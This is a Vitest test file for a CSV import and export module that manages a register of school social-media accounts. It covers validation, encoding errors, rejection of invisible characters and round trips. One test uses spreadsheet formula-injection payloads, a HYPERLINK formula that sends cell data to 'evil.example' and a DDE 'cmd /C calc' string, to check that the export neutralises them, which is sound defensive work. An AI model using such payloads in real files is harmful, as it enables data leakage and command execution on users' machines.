import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  REGISTER_COLUMNS,
  formatRowErrors,
  parseRegisterCsv,
  registerToCsv,
  type ParseResult,
  type RowError,
} from '../../functions/domain/register-csv.ts';
import { accountId, type AccountFields } from '../../functions/domain/model.ts';

const sampleUrl = fileURLToPath(new URL('../../samples/register.csv', import.meta.url));
const HEADER = 'platform,handle,school,linked_email,admins,main_supervisor';
const OK_TAIL = 'oakfield,office@oakfield.sch.uk,a.one@oakfield.sch.uk;b.two@oakfield.sch.uk,k.williams@oakfield.sch.uk';

function rowsOf(result: ParseResult): Array<AccountFields & { line: number }> {
  if (!result.ok) throw new Error(`expected ok, got:\n${formatRowErrors(result.errors)}`);
  return result.rows;
}

function errorsOf(result: ParseResult): RowError[] {
  if (result.ok) throw new Error(`expected errors, got ${result.rows.length} rows`);
  return result.errors;
}

function csv(...lines: string[]): string {
  return lines.join('\n') + '\n';
}

function withoutLine(rows: Array<AccountFields & { line: number }>): AccountFields[] {
  return rows.map(({ line: _line, ...rest }) => rest);
}

describe('parseRegisterCsv: accepted input', () => {
  it('reads a minimal file and defaults monitoring_frequency to weekly', () => {
    const rows = rowsOf(parseRegisterCsv(csv(HEADER, `facebook,OakfieldAcademy,${OK_TAIL}`)));
    expect(rows).toEqual([
      {
        line: 2,
        platform: 'facebook',
        handle: 'OakfieldAcademy',
        school: 'oakfield',
        linkedEmail: 'office@oakfield.sch.uk',
        admins: ['a.one@oakfield.sch.uk', 'b.two@oakfield.sch.uk'],
        mainSupervisor: 'k.williams@oakfield.sch.uk',
        monitoringFrequency: 'weekly',
      },
    ]);
    // optional empties are omitted, not present-but-undefined
    expect(Object.keys(rows[0]!)).not.toContain('url');
  });

  it('reads holiday_monitoring_frequency (any case); empty, or no such column, is the same as term time', () => {
    const rows = rowsOf(parseRegisterCsv(csv(
      `${HEADER},monitoring_frequency,Holiday_Monitoring_Frequency`,
      `facebook,a,${OK_TAIL},weekly,Monthly`,
      `facebook,b,${OK_TAIL},weekly,`,
      `facebook,c,${OK_TAIL},, fortnightly `,
    )));
    expect(rows.map((r) => [r.handle, r.monitoringFrequency, r.holidayMonitoringFrequency])).toEqual([
      ['a', 'weekly', 'monthly'],
      ['b', 'weekly', undefined],
      ['c', 'weekly', 'fortnightly'],
    ]);
    expect(Object.keys(rows[1]!)).not.toContain('holidayMonitoringFrequency');
    // A file from before the column existed still imports.
    const [old] = rowsOf(parseRegisterCsv(csv(`${HEADER},monitoring_frequency`, `facebook,a,${OK_TAIL},monthly`)));
    expect(old).toMatchObject({ monitoringFrequency: 'monthly' });
    expect(Object.keys(old!)).not.toContain('holidayMonitoringFrequency');
  });

  it('tolerates a BOM, as a string and as a Buffer', () => {
    const text = '\uFEFF' + csv(HEADER, `facebook,OakfieldAcademy,${OK_TAIL}`);
    expect(rowsOf(parseRegisterCsv(text))[0]!.platform).toBe('facebook');
    expect(rowsOf(parseRegisterCsv(Buffer.from(text, 'utf8')))[0]!.line).toBe(2);
  });

  it('accepts mixed-case headers in any order, ignores unknown columns, and normalises emails', () => {
    const text = csv(
      'Notes,HANDLE,Platform,School,Linked_Email,Admins,Main_Supervisor,Reserve_Supervisor,Monitoring_Frequency',
      'ask Jo,OakfieldPE,Instagram,oakfield, J.Patel@Oakfield.SCH.uk ," A.One@oakfield.sch.uk ; ;a.one@OAKFIELD.sch.uk;B.Two@oakfield.sch.uk;",K.Williams@Oakfield.sch.uk,D.Fraser@oakfield.sch.uk,Daily',
    );
    const [row] = rowsOf(parseRegisterCsv(text));
    expect(row).toEqual({
      line: 2,
      platform: 'instagram',
      handle: 'OakfieldPE',
      school: 'oakfield',
      linkedEmail: 'j.patel@oakfield.sch.uk',
      admins: ['a.one@oakfield.sch.uk', 'b.two@oakfield.sch.uk'],
      mainSupervisor: 'k.williams@oakfield.sch.uk',
      reserveSupervisor: 'd.fraser@oakfield.sch.uk',
      monitoringFrequency: 'daily',
    });
    expect(row).not.toHaveProperty('notes');
  });

  it('reads ISO and UK DD/MM/YYYY dates into YYYY-MM-DD', () => {
    const text = csv(
      `${HEADER},planned_end_date,next_review_date,last_activity_date`,
      `whatsapp,y6-trip,${OK_TAIL},31/07/2026,2026-06-01,1/3/2026`,
    );
    const [row] = rowsOf(parseRegisterCsv(text));
    expect(row!.plannedEndDate).toBe('2026-07-31');
    expect(row!.nextReviewDate).toBe('2026-06-01');
    expect(row!.lastActivityDate).toBe('2026-03-01');
  });

  it('handles quoted fields with commas and embedded newlines, and counts lines after them', () => {
    const text = csv(
      `${HEADER},published_name,purpose`,
      `tiktok,sixthform,${OK_TAIL},"Oakfield Academy, Sixth Form","Recruitment:`,
      `open evenings,`,
      `and ""taster days"""`,
      `youtube,OakfieldMusic,${OK_TAIL},Oakfield Music,Concerts`,
      `x,OakfieldSport,oakfield,office@oakfield.sch.uk,not-an-email,k.williams@oakfield.sch.uk,,`,
    );
    const result = parseRegisterCsv(text);
    expect(errorsOf(result)).toEqual([{ line: 6, reason: 'admins: "not-an-email" is not an email address' }]);

    const good = rowsOf(parseRegisterCsv(text.split('\n').slice(0, 5).join('\n')));
    expect(good.map((r) => r.line)).toEqual([2, 5]);
    expect(good[0]!.publishedName).toBe('Oakfield Academy, Sixth Form');
    expect(good[0]!.purpose).toBe('Recruitment:\nopen evenings,\nand "taster days"');
  });

  it('counts lines correctly for CRLF files with CRLF inside quoted values and blank lines', () => {
    const text = [
      `${HEADER},purpose`,
      `facebook,a,${OK_TAIL},"two`,
      `lines"`,
      ``,
      `facebook,b,${OK_TAIL},one line`,
      `facebook,,${OK_TAIL},missing handle`,
      ``,
    ].join('\r\n');
    expect(errorsOf(parseRegisterCsv(text))).toEqual([{ line: 6, reason: 'handle: required but empty' }]);
    const rows = rowsOf(parseRegisterCsv(text.replace('facebook,,', 'facebook,c,')));
    expect(rows.map((r) => [r.handle, r.line])).toEqual([['a', 2], ['b', 5], ['c', 6]]);
    expect(rows[0]!.purpose).toBe('two\r\nlines');
  });

  it('strips a leading @ from handles but keeps their case', () => {
    const [row] = rowsOf(parseRegisterCsv(csv(HEADER, `x,@RiversideSports,${OK_TAIL}`)));
    expect(row!.handle).toBe('RiversideSports');
    expect(accountId(row!.platform, row!.handle)).toBe('x:riversidesports');
  });

  it('accepts twitter as x, case-insensitively', () => {
    const rows = rowsOf(parseRegisterCsv(csv(HEADER, `Twitter,OakfieldSport,${OK_TAIL}`, `X,Other,${OK_TAIL}`)));
    expect(rows.map((r) => r.platform)).toEqual(['x', 'x']);
  });

  it('skips completely blank lines, including whitespace-only and comma-only ones', () => {
    const text = csv(HEADER, '', `facebook,a,${OK_TAIL}`, '   ', ',,,,,', `facebook,b,${OK_TAIL}`, '', '');
    expect(rowsOf(parseRegisterCsv(text)).map((r) => r.line)).toEqual([3, 6]);
  });

  it('a file with only a header is valid and has no rows', () => {
    expect(parseRegisterCsv(HEADER)).toEqual({ ok: true, rows: [] });
    expect(parseRegisterCsv(csv(HEADER, '', ''))).toEqual({ ok: true, rows: [] });
  });
});

describe('parseRegisterCsv: rejected input', () => {
  it('names missing header columns on line 1, once', () => {
    const errors = errorsOf(parseRegisterCsv(csv('platform,Handle,school,notes', `facebook,a,oakfield,x`)));
    expect(errors).toHaveLength(1);
    expect(errors[0]!.line).toBe(1);
    expect(errors[0]!.reason).toContain('linked_email, admins, main_supervisor');
    expect(errors[0]!.reason).not.toContain('notes');
  });

  it('reports a row with no handle', () => {
    const errors = errorsOf(parseRegisterCsv(csv(HEADER, `facebook,a,${OK_TAIL}`, `facebook,,${OK_TAIL}`)));
    expect(errors).toEqual([{ line: 3, reason: 'handle: required but empty' }]);
    expect(errorsOf(parseRegisterCsv(csv(HEADER, `facebook,@,${OK_TAIL}`)))[0]!.reason).toContain('handle:');
  });

  it('reports a malformed email naming the column and value', () => {
    const errors = errorsOf(
      parseRegisterCsv(
        csv(HEADER, `facebook,a,${OK_TAIL}`, `facebook,b,${OK_TAIL}`, `facebook,c,oakfield,office@oakfield.sch.uk,j.smith@school;b.two@oakfield.sch.uk,k.williams@oakfield.sch.uk`),
      ),
    );
    expect(errors).toEqual([{ line: 4, reason: 'admins: "j.smith@school" is not an email address' }]);
    expect(formatRowErrors(errors)).toBe('line 4: admins: "j.smith@school" is not an email address');
  });

  it('checks linked, supervisor and reserve emails too', () => {
    const text = csv(
      `${HEADER},reserve_supervisor`,
      'facebook,a,oakfield,office at oakfield,a.one@oakfield.sch.uk,kw@,nobody',
    );
    expect(errorsOf(parseRegisterCsv(text))).toEqual([
      {
        line: 2,
        reason:
          'linked_email: "office at oakfield" is not an email address; main_supervisor: "kw@" is not an email address; reserve_supervisor: "nobody" is not an email address',
      },
    ]);
  });

  it('hints at ; when admins are separated by commas', () => {
    const text = csv(HEADER, 'facebook,a,oakfield,office@oakfield.sch.uk,"a.one@oakfield.sch.uk, b.two@oakfield.sch.uk",k@oakfield.sch.uk');
    expect(errorsOf(parseRegisterCsv(text))[0]!.reason).toContain('separate administrators with ;');
  });

  it('reports an unknown platform, listing the accepted ones', () => {
    const [error] = errorsOf(parseRegisterCsv(csv(HEADER, `myspace,a,${OK_TAIL}`)));
    expect(error!.line).toBe(2);
    expect(error!.reason).toMatch(/^platform: "myspace" is not a known platform/);
    expect(error!.reason).toContain('facebook, instagram, x');
    expect(error!.reason).toContain('x (or twitter)');
  });

  it('reports a bad monitoring_frequency', () => {
    const [error] = errorsOf(parseRegisterCsv(csv(`${HEADER},monitoring_frequency`, `facebook,a,${OK_TAIL},hourly`)));
    expect(error).toEqual({
      line: 2,
      reason: 'monitoring_frequency: "hourly" is not one of daily, weekly, fortnightly, monthly',
    });
  });

  it('reports a bad holiday_monitoring_frequency with its line, with the row\'s other problems', () => {
    const text = csv(
      `${HEADER},monitoring_frequency,holiday_monitoring_frequency`,
      `facebook,a,${OK_TAIL},weekly,monthly`,
      `facebook,b,${OK_TAIL},weekly,termly`,
      `facebook,c,${OK_TAIL},hourly,never`,
    );
    expect(errorsOf(parseRegisterCsv(text))).toEqual([
      { line: 3, reason: 'holiday_monitoring_frequency: "termly" is not one of daily, weekly, fortnightly, monthly' },
      {
        line: 4,
        reason: 'monitoring_frequency: "hourly" is not one of daily, weekly, fortnightly, monthly; holiday_monitoring_frequency: "never" is not one of daily, weekly, fortnightly, monthly',
      },
    ]);
  });

  it('reports impossible and malformed dates, naming the column and value', () => {
    const text = csv(
      `${HEADER},planned_end_date,next_review_date,last_activity_date`,
      `facebook,a,${OK_TAIL},31/02/2026,2026-13-01,next week`,
    );
    expect(errorsOf(parseRegisterCsv(text))).toEqual([
      {
        line: 2,
        reason:
          'planned_end_date: "31/02/2026" is not a real date; next_review_date: "2026-13-01" is not a real date; last_activity_date: "next week" is not a date (use YYYY-MM-DD or DD/MM/YYYY)',
      },
    ]);
  });

  it('reports every problem on a row and every bad row, writing nothing', () => {
    const text = csv(
      `${HEADER},planned_end_date`,
      `facebook,good,${OK_TAIL},`,
      `myspace,,oakfield,office@oakfield.sch.uk,j.smith@school,k.williams@oakfield.sch.uk,`,
      `facebook,good2,${OK_TAIL},`,
      `instagram,fine,,office@oakfield.sch.uk,a.one@oakfield.sch.uk,k.williams@oakfield.sch.uk,31/02/2026`,
      `facebook,good3,${OK_TAIL},`,
    );
    const result = parseRegisterCsv(text);
    expect(result.ok).toBe(false);
    expect(result).not.toHaveProperty('rows');
    const errors = errorsOf(result);
    expect(errors.map((e) => e.line)).toEqual([3, 5]);
    const parts = errors[0]!.reason.split('; ');
    expect(parts).toHaveLength(3);
    expect(parts[0]).toMatch(/^platform: "myspace" is not a known platform \(use one of facebook, .*other\)$/);
    expect(parts.slice(1)).toEqual(['handle: required but empty', 'admins: "j.smith@school" is not an email address']);
    expect(errors[1]!.reason).toBe('school: required but empty; planned_end_date: "31/02/2026" is not a real date');
  });

  it('reports a duplicate identity on the second row, naming the first line', () => {
    const text = csv(
      HEADER,
      `instagram,Oakfield_PE,${OK_TAIL}`,
      `facebook,Oakfield_PE,${OK_TAIL}`,
      `Instagram,@oakfield_pe,${OK_TAIL}`,
      `twitter,OakfieldSport,${OK_TAIL}`,
      `x,@OAKFIELDSPORT,${OK_TAIL}`,
    );
    expect(errorsOf(parseRegisterCsv(text))).toEqual([
      { line: 4, reason: 'same platform and handle as line 2 (instagram:oakfield_pe)' },
      { line: 6, reason: 'same platform and handle as line 5 (x:oakfieldsport)' },
    ]);
  });

  it('reports a row with the wrong number of fields as a RowError', () => {
    const text = csv(HEADER, `facebook,a,${OK_TAIL}`, `facebook,b,${OK_TAIL},extra`, `facebook,c,oakfield`);
    const errors = errorsOf(parseRegisterCsv(text));
    expect(errors.map((e) => e.line)).toEqual([3, 4]);
    expect(errors[0]!.reason).toContain('has 7 values but the header has 6 columns');
  });

  it('reports an unbalanced quote at the line its record starts on', () => {
    const text = csv(HEADER, `facebook,a,${OK_TAIL}`, `facebook,"b,${OK_TAIL}`, `facebook,c,${OK_TAIL}`);
    expect(errorsOf(parseRegisterCsv(text))).toEqual([
      { line: 3, reason: 'the CSV is malformed here: a quoted value is never closed (unbalanced ")' },
    ]);
    const stray = csv(HEADER, `facebook,a"b,${OK_TAIL}`, `facebook,c,${OK_TAIL}`, `facebook,"d"e,${OK_TAIL}`);
    expect(errorsOf(parseRegisterCsv(stray)).map((e) => e.line)).toEqual([2, 4]);
  });

  it('never throws on garbage', () => {
    const nasty: Array<string | Buffer> = [
      '',
      '\uFEFF',
      '\n\n\r\n',
      HEADER,
      '"',
      '"""',
      `${HEADER}\n"`,
      `${HEADER}\nfacebook,"unclosed,${OK_TAIL}`,
      'platform;handle;school;linked_email;admins;main_supervisor\nfacebook;a;oakfield;x@y.uk;x@y.uk;x@y.uk',
      Buffer.from([0x00, 0xff, 0xfe, 0x22, 0x0a, 0x2c, 0x0d, 0x80, 0xc3, 0x28, 0x22, 0x22]),
      Buffer.from([0xff, 0xfe, 0x70, 0x00, 0x6c, 0x00]),
      Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)),
      `${HEADER}\n${'x'.repeat(200_000)}`,
      ',,,,,,\n,,,,,,',
      `${HEADER}\n\u0000,\u0000,\u0000,\u0000,\u0000,\u0000`,
    ];
    for (const input of nasty) {
      let result: ParseResult | undefined;
      expect(() => {
        result = parseRegisterCsv(input);
      }).not.toThrow();
      expect(result).toBeDefined();
      if (!result!.ok) {
        expect(result!.errors.length).toBeGreaterThan(0);
        for (const e of result!.errors) {
          expect(Number.isInteger(e.line) && e.line >= 1).toBe(true);
          expect(e.reason.length).toBeGreaterThan(0);
          expect(e.reason.length).toBeLessThan(500);
        }
      }
    }
    expect(errorsOf(parseRegisterCsv(''))[0]).toMatchObject({ line: 1 });
    expect(errorsOf(parseRegisterCsv(''))[0]!.reason).toContain('platform, handle, school, linked_email, admins, main_supervisor');
    expect(errorsOf(parseRegisterCsv(Buffer.from([0xff, 0xfe, 0x70, 0x00])))[0]!.reason).toContain('UTF-16');
    const latin1 = Buffer.concat([Buffer.from(csv(HEADER, `facebook,a,${OK_TAIL}`), 'utf8'), Buffer.from('facebook,Caf\xe9,' + OK_TAIL + '\n', 'latin1')]);
    expect(errorsOf(parseRegisterCsv(latin1))).toEqual([{ line: 3, reason: 'the file is not UTF-8 text here; save it as "CSV UTF-8"' }]);
    expect(errorsOf(parseRegisterCsv('platform;handle;school;linked_email;admins;main_supervisor\n'))[0]!.reason).toContain(
      'separated by commas',
    );
  });
});

describe('parseRegisterCsv: characters a cell may not hold', () => {
  const ROW = `facebook,a,${OK_TAIL}`;
  /** The error for a file whose one row has `value` in `column` (added after the required columns when optional). */
  const errorFor = (column: string, value: string) => {
    const header = HEADER.split(',');
    const cells = ROW.split(',');
    const quoted = `"${value.replaceAll('"', '""')}"`;
    if (header.includes(column)) cells[header.indexOf(column)] = quoted;
    else {
      header.push(column);
      cells.push(quoted);
    }
    return errorsOf(parseRegisterCsv(csv(header.join(','), cells.join(','))));
  };

  it('refuses control characters, naming the line and the column, and reports the column only once', () => {
    expect(errorFor('handle', 'oakfield\tpe')).toEqual([{ line: 2, reason: 'handle: contains a control character (U+0009 tab)' }]);
    expect(errorFor('school', 'oak\u0000field')).toEqual([{ line: 2, reason: 'school: contains a control character (U+0000 NUL)' }]);
    expect(errorFor('purpose', 'news\u0085and events')).toEqual([{ line: 2, reason: 'purpose: contains a control character (U+0085)' }]);
    expect(errorFor('audience', 'parents\u001b[31m')).toEqual([{ line: 2, reason: 'audience: contains a control character (U+001B escape)' }]);
    // A cell trimmed on import is checked as written: a trailing tab is refused too.
    expect(errorFor('linked_email', 'office@oakfield.sch.uk\t')).toEqual([{ line: 2, reason: 'linked_email: contains a control character (U+0009 tab)' }]);
  });

  it('refuses text-direction overrides, embeddings, isolates and marks', () => {
    for (const c of ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c']) {
      const [error] = errorFor('handle', `oakfield${c}ep_`);
      expect(error!.reason).toMatch(/^handle: contains a text-direction character \(U\+[0-9A-F]{4} [A-Za-z -]+\)$/);
    }
    expect(errorFor('published_name', 'Oakfield \u202eAcademy')).toEqual([
      { line: 2, reason: 'published_name: contains a text-direction character (U+202E right-to-left override)' },
    ]);
  });

  it('refuses zero-width characters, even where an address would otherwise be refused for another reason', () => {
    expect(errorFor('linked_email', 'office\u200b@oakfield.sch.uk')).toEqual([
      { line: 2, reason: 'linked_email: contains an invisible zero-width character (U+200B zero-width space)' },
    ]);
    expect(errorFor('admins', 'a.one@oakfield.sch.uk;\ufeffb.two@oakfield.sch.uk')[0]!.reason).toBe('admins: contains an invisible zero-width character (U+FEFF zero-width no-break space)');
    expect(errorFor('handle', 'oak\u200dfield')[0]!.reason).toBe('handle: contains an invisible zero-width character (U+200D zero-width joiner)');
    expect(errorFor('handle', 'oak\u2060field')[0]!.reason).toBe('handle: contains an invisible zero-width character (U+2060 word joiner)');
  });

  it('lets purpose and audience span lines, and no other column', () => {
    const rows = rowsOf(parseRegisterCsv(csv(`${HEADER},purpose,audience`, `${ROW},"news\r\nand events","parents\nand carers"`)));
    expect(rows[0]).toMatchObject({ purpose: 'news\r\nand events', audience: 'parents\nand carers' });
    expect(errorFor('published_name', 'Oakfield\nAcademy')).toEqual([
      { line: 2, reason: 'published_name: contains a line break (only purpose and audience may span lines)' },
    ]);
    expect(errorFor('handle', 'oak\rfield')[0]!.reason).toBe('handle: contains a line break (only purpose and audience may span lines)');
  });

  it('lets free text hold emoji joined by a zero-width joiner, and nothing else joined by one', () => {
    const emoji = '\u{1F469}\u200d\u{1F4BB} and \u{1F3F3}\ufe0f\u200d\u{1F308} and \u{1F469}\u{1F3FD}\u200d\u{1F52C}';
    const rows = rowsOf(parseRegisterCsv(csv(`${HEADER},purpose,published_name`, `${ROW},${emoji},Pride ${emoji}`)));
    expect(rows[0]).toMatchObject({ purpose: emoji, publishedName: `Pride ${emoji}` });
    expect(errorFor('purpose', 'news\u200dletters')[0]!.reason).toBe('purpose: contains an invisible zero-width character (U+200D zero-width joiner)');
    expect(errorFor('handle', '\u{1F469}\u200d\u{1F4BB}')[0]!.reason).toBe('handle: contains an invisible zero-width character (U+200D zero-width joiner)');
  });

  it('reports every bad cell of a row with the row\'s other problems, and ignores extra columns', () => {
    const text = csv(`${HEADER},notes,purpose`, `myspace,\u202eep_dleifkao,oakfield,office@oakfield.sch.uk,a.one@oakfield.sch.uk,k.williams@oakfield.sch.uk,"tab\there",x\u0007`);
    expect(errorsOf(parseRegisterCsv(text))).toEqual([{
      line: 2,
      reason: expect.stringMatching(/^handle: contains a text-direction character \(U\+202E right-to-left override\); purpose: contains a control character \(U\+0007\); platform: "myspace" is not a known platform/),
    }]);
    expect(rowsOf(parseRegisterCsv(csv(`${HEADER},notes`, `${ROW},"a note\twith a tab\nand a line break"`)))).toHaveLength(1);
  });
});

describe('registerToCsv', () => {
  const rows: AccountFields[] = [
    {
      platform: 'tiktok',
      handle: 'oakfieldsixthform',
      school: 'oakfield',
      url: 'https://www.tiktok.com/@oakfieldsixthform',
      linkedEmail: 'sixthform@oakfield.sch.uk',
      admins: ['l.nowak@oakfield.sch.uk', 'r.hughes@oakfield.sch.uk'],
      mainSupervisor: 'a.begum@oakfield.sch.uk',
      reserveSupervisor: 'k.williams@oakfield.sch.uk',
      purpose: 'Recruitment, open evenings\nand "taster days"',
      audience: 'Year 10 and 11',
      publishedName: 'Oakfield Academy, Sixth Form',
      monitoringFrequency: 'daily',
      holidayMonitoringFrequency: 'weekly',
      plannedEndDate: '2026-07-31',
      nextReviewDate: '2026-04-01',
      lastActivityDate: '2026-03-03',
    },
    {
      platform: 'x',
      handle: 'RiversideSports',
      school: 'riverside',
      linkedEmail: 'sport@riverside.sch.uk',
      admins: ['g.jones@riverside.sch.uk'],
      mainSupervisor: 'b.taylor@riverside.sch.uk',
      monitoringFrequency: 'weekly',
    },
  ];

  it('writes a header of every column in contract order, LF, no BOM', () => {
    const out = registerToCsv(rows);
    expect(REGISTER_COLUMNS).toEqual([
      'platform', 'handle', 'school', 'linked_email', 'admins', 'main_supervisor',
      'url', 'reserve_supervisor', 'purpose', 'audience', 'published_name', 'monitoring_frequency',
      'planned_end_date', 'next_review_date', 'last_activity_date', 'holiday_monitoring_frequency',
    ]);
    expect(out.startsWith(REGISTER_COLUMNS.join(',') + '\n')).toBe(true);
    expect(out.charCodeAt(0)).not.toBe(0xfeff);
    expect(out).not.toContain('\r');
    expect(out.endsWith('\n')).toBe(true);
    expect(out).toContain('l.nowak@oakfield.sch.uk;r.hughes@oakfield.sch.uk');
    expect(out.split('\n').at(-2)).toBe(
      'x,RiversideSports,riverside,sport@riverside.sch.uk,g.jones@riverside.sch.uk,b.taylor@riverside.sch.uk,,,,,,weekly,,,,',
    );
    expect(registerToCsv([])).toBe(REGISTER_COLUMNS.join(',') + '\n');
  });

  it('round trips: parse(registerToCsv(rows)) gives the rows back', () => {
    const parsed = rowsOf(parseRegisterCsv(registerToCsv(rows)));
    expect(withoutLine(parsed)).toEqual(rows);
    // the first record spans two physical lines, so the second starts on line 4
    expect(parsed.map((r) => r.line)).toEqual([2, 4]);
  });

  it('writes holiday_monitoring_frequency last, empty when it is the same as term time, and reads it back', () => {
    const out = registerToCsv(rows);
    const [header, first] = parse(out, { relax_quotes: false }) as string[][];
    const cell = (r: string[], c: string) => r[header!.indexOf(c)];
    expect(header!.at(-1)).toBe('holiday_monitoring_frequency');
    expect(cell(first!, 'monitoring_frequency')).toBe('daily');
    expect(cell(first!, 'holiday_monitoring_frequency')).toBe('weekly');
    expect(out.trimEnd().split('\n').at(-1)!.endsWith(',weekly,,,,')).toBe(true);
    expect(withoutLine(rowsOf(parseRegisterCsv(out))).map((r) => r.holidayMonitoringFrequency)).toEqual(['weekly', undefined]);
  });

  it('round trips the sample register', () => {
    const sample = withoutLine(rowsOf(parseRegisterCsv(readFileSync(sampleUrl))));
    expect(withoutLine(rowsOf(parseRegisterCsv(registerToCsv(sample))))).toEqual(sample);
  });

  it('writes a cell that would start a formula with a leading \', and reads it back as it was', () => {
    const risky: AccountFields = {
      platform: 'instagram',
      handle: '=HYPERLINK("https://evil.example/?"&A1,"click")',
      school: '+oakfield',
      linkedEmail: '-office@oakfield.sch.uk',
      admins: ['=a@oakfield.sch.uk', 'b@oakfield.sch.uk'],
      mainSupervisor: '+k.williams@oakfield.sch.uk',
      url: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      purpose: "'=already quoted by hand",
      audience: "''+two quotes",
      publishedName: "'plain, with a quote",
      monitoringFrequency: 'weekly',
    };
    const out = registerToCsv([risky]);
    const cells = parse(out, { relax_quotes: false })[1] as string[];
    const byColumn = Object.fromEntries(REGISTER_COLUMNS.map((c, i) => [c, cells[i]]));
    expect(byColumn).toMatchObject({
      handle: `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
      school: "'+oakfield",
      linked_email: "'-office@oakfield.sch.uk",
      admins: "'=a@oakfield.sch.uk;b@oakfield.sch.uk",
      main_supervisor: "'+k.williams@oakfield.sch.uk",
      url: "'@SUM(1+1)*cmd|' /C calc'!A0",
      purpose: "''=already quoted by hand",
      audience: "'''+two quotes",
      published_name: "'plain, with a quote",
      monitoring_frequency: 'weekly',
    });
    expect(cells.every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
    expect(withoutLine(rowsOf(parseRegisterCsv(out)))).toEqual([risky]);
  });

  it('import takes one leading \' off a cell only when a formula character follows it', () => {
    const [row] = rowsOf(parseRegisterCsv(csv(`${HEADER},purpose,audience,published_name`, `facebook,'=SUM(A1),${OK_TAIL},'-5,''@all,'O'Brien`)));
    expect(row).toMatchObject({ handle: '=SUM(A1)', purpose: '-5', audience: "'@all", publishedName: "'O'Brien" });
    // An @ after the quote is the export's protection too; the handle's own leading @ is then ignored as usual.
    expect(rowsOf(parseRegisterCsv(csv(HEADER, `facebook,'@OakfieldPE,${OK_TAIL}`)))[0]!.handle).toBe('OakfieldPE');
  });
});

describe('samples/register.csv', () => {
  const rows = rowsOf(parseRegisterCsv(readFileSync(sampleUrl)));
  const hughes = 'r.hughes@oakfield.sch.uk';

  it('is valid, about 24 accounts over three schools', () => {
    expect(rows).toHaveLength(24);
    expect(new Set(rows.map((r) => r.school))).toEqual(new Set(['oakfield', 'riverside', 'hillcrest']));
    expect(new Set(rows.map((r) => r.platform)).size).toBeGreaterThanOrEqual(10);
  });

  it('has the features the README walkthrough relies on', () => {
    const raw = readFileSync(sampleUrl, 'utf8');
    expect(raw.charCodeAt(0)).not.toBe(0xfeff);
    expect(raw).toMatch(/R\.Hughes@Oakfield\.sch\.uk/); // a mixed-case email
    expect(raw).toMatch(/,31\/07\/2026,/); // a DD/MM/YYYY date
    expect(raw).toContain(',@RiversideSports,');
    expect(rows.some((r) => r.publishedName === 'Oakfield Academy, Sixth Form')).toBe(true);
    expect(rows.filter((r) => r.admins.length === 1)).toHaveLength(2);
    expect(rows.filter((r) => r.linkedEmail.endsWith('@gmail.com')).map((r) => r.handle)).toEqual(['RiversidePTA']);
    expect(rows.find((r) => r.handle === 'riverside-y6-residential')!.plannedEndDate).toBe('2026-07-31');
  });

  it('gives r.hughes the leaver footprint the demo expects', () => {
    const linked = rows.filter((r) => r.linkedEmail === hughes);
    const admin = rows.filter((r) => r.admins.includes(hughes));
    const supervised = rows.filter((r) => r.mainSupervisor === hughes);
    expect(linked.map((r) => accountId(r.platform, r.handle))).toEqual(['instagram:oakfield_pe', 'youtube:oakfieldmusic']);
    expect(admin.map((r) => accountId(r.platform, r.handle))).toEqual([
      'facebook:oakfieldacademy', 'x:oakfieldsport', 'tiktok:oakfieldsixthform',
    ]);
    expect(admin.filter((r) => r.admins.length - 1 === 1).map((r) => r.handle)).toEqual(['OakfieldSport']);
    expect(supervised.map((r) => accountId(r.platform, r.handle))).toEqual(['blog:oakfield-library']);
    // six distinct accounts; she is nobody's reserve supervisor
    expect(new Set([...linked, ...admin, ...supervised].map((r) => r.handle)).size).toBe(6);
    expect(rows.filter((r) => r.reserveSupervisor === hughes)).toHaveLength(0);
  });
});
